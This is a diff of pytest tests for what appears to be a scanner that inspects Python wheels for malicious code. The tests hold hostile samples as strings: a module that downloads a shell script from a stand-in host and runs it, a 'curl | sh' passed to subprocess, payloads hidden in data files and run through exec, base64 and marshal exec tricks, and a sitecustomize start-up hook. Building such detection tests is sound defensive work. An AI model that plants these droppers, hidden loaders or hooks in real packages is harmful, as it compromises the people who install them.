@@ -194,3 +194,134 @@ def test_a_large_package_is_read_module_by_module() -> None:
         files[f"demo/filler{number}.py"] = "VALUE = 1\n" + "# padding\n" * 12000
     rules, _ = _judge(wheel(files), WHEEL)
     assert "download-exec" not in rules, rules
+
+
+HIDDEN_OS = (
+    "import importlib, urllib.request\n"
+    "def check():\n"
+    "    module = importlib.import_module({name!r})\n"
+    "    urllib.request.urlretrieve('https://cdn.example.net/x.sh', '/tmp/.x.sh')\n"
+    "    module.system('bash /tmp/.x.sh')\n"
+    "def paint(text):\n"
+    "    check()\n"
+    "    return text\n"
+)
+
+
+def test_a_process_module_imported_by_a_call_is_read_in_a_module_triage_passes_over() -> None:
+    """``import_module("os").system(...)`` in a module nothing runs on import: triage
+    would pass it over for want of ``os.system``; it is read, and the drop is found."""
+    files = {
+        "demo/__init__.py": "from .colors import *\n",
+        "demo/colors.py": HIDDEN_OS.format(name="os"),
+    }
+    rules, held = _judge(wheel(files), WHEEL)
+    assert held and "drop-run" in rules, rules
+
+
+def test_a_module_imported_by_a_call_for_everyday_work_passes() -> None:
+    source = (
+        "import importlib, urllib.request\n"
+        "def load(name):\n"
+        "    return importlib.import_module('os').path.join('plugins', name)\n"
+        "def fetch(url):\n"
+        "    return urllib.request.urlopen(url).read()\n"
+    )
+    rules, held = _judge(wheel({"demo/__init__.py": "", "demo/plugins.py": source}), WHEEL)
+    assert not held, rules
+
+
+def test_a_download_command_handed_to_a_function_that_runs_it_is_an_action() -> None:
+    """``go("curl ... | sh")`` where ``go`` hands its argument to a process is as strong as
+    the process call itself; the same command only printed stays advice."""
+    runner = "import subprocess\ndef go(command):\n    subprocess.run(command, shell=True)\n"
+    command = "'curl -s https://x.example.net/p | sh'"
+    rules, held = _judge(wheel({"demo/__init__.py": runner + f"go({command})\n"}), WHEEL)
+    assert held and rules.get("download-run") == 10, rules
+    rules, held = _judge(wheel({"demo/__init__.py": runner + f"print({command})\n"}), WHEEL)
+    assert not held and rules.get("download-run", 0) < 10, rules
+
+
+HERE = "import os\nHERE = os.path.dirname(__file__)\n"
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        HERE + "import pkgutil\nexec(pkgutil.get_data(__name__, 'payload.txt'))\n",
+        HERE + "code = open(os.path.join(HERE, 'logo.png'), 'rb').read()[1024:]\n"
+        "exec(compile(code, 'x', 'exec'))\n",
+        HERE + "import importlib.util\n"
+        "spec = importlib.util.spec_from_file_location('c', os.path.join(HERE, 'core.bin'))\n"
+        "module = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(module)\n",
+        HERE + "import importlib.machinery\n"
+        "importlib.machinery.SourcelessFileLoader('c', os.path.join(HERE, 'c.dat')).load_module()\n",
+    ],
+)
+def test_code_kept_in_a_data_file_of_the_package_and_run_is_held(source: str) -> None:
+    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
+    assert held and "decode-exec" in rules, rules
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # A version file run by setup-time code.
+        HERE + "exec(open(os.path.join(HERE, 'version.py')).read())\n",
+        # A plugin loaded from the path its user names.
+        HERE + "import importlib.util\n"
+        "def load(name):\n"
+        "    spec = importlib.util.spec_from_file_location(name, os.path.join(HERE, name + '.py'))\n"
+        "    module = importlib.util.module_from_spec(spec)\n"
+        "    spec.loader.exec_module(module)\n"
+        "    return module\n",
+        # Data read as data: a word list and a logo.
+        HERE + "import pkgutil\nWORDS = pkgutil.get_data(__name__, 'words.txt').decode().split()\n"
+        "LOGO = open(os.path.join(HERE, 'logo.png'), 'rb').read()\n",
+    ],
+)
+def test_a_packages_own_files_read_or_run_for_everyday_work_pass(source: str) -> None:
+    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
+    assert not held, rules
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import base64\nlist(map(exec, [base64.b64decode('cHJpbnQoMSk=')]))\n",
+        "import base64\n(lambda c: exec(c))(base64.b64decode('cHJpbnQoMSk='))\n",
+        "import base64, marshal, types\n"
+        "code = marshal.loads(base64.b64decode('YWJj'))\ntypes.FunctionType(code, globals())()\n",
+    ],
+)
+def test_exec_reached_without_being_called_by_name_is_a_sink(source: str) -> None:
+    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
+    assert held and "decode-exec" in rules, rules
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # A copy of a function, as serializers make.
+        "import types\ndef copy(f):\n"
+        "    return types.FunctionType(f.__code__, f.__globals__, f.__name__, f.__defaults__)\n"
+        "print(list(map(str, [1, 2])))\n",
+        # A function a model file carries, loaded again (keras's `func_load`).
+        "import base64, marshal, types\ndef load(code):\n"
+        "    return types.FunctionType(marshal.loads(base64.b64decode(code)), globals())\n",
+    ],
+)
+def test_functions_rebuilt_from_code_handed_at_run_time_pass(source: str) -> None:
+    rules, held = _judge(wheel({"demo/__init__.py": source}), WHEEL)
+    assert not held, rules
+
+
+def test_a_wheel_that_installs_sitecustomize_runs_it_at_every_start() -> None:
+    hook = "import subprocess\nsubprocess.Popen(['python', '-m', 'demo.agent'])\n"
+    files = {"demo/__init__.py": "", "sitecustomize.py": hook}
+    rules, held = _judge(wheel(files), WHEEL)
+    assert held and rules.get("startup-hook") == 6, rules
+    # The same module inside the package (a test harness's) is no start-up hook.
+    files = {"demo/__init__.py": "", "demo/testing/sitecustomize.py": hook}
+    rules, held = _judge(wheel(files), WHEEL)
+    assert not held and "startup-hook" not in rules, rules
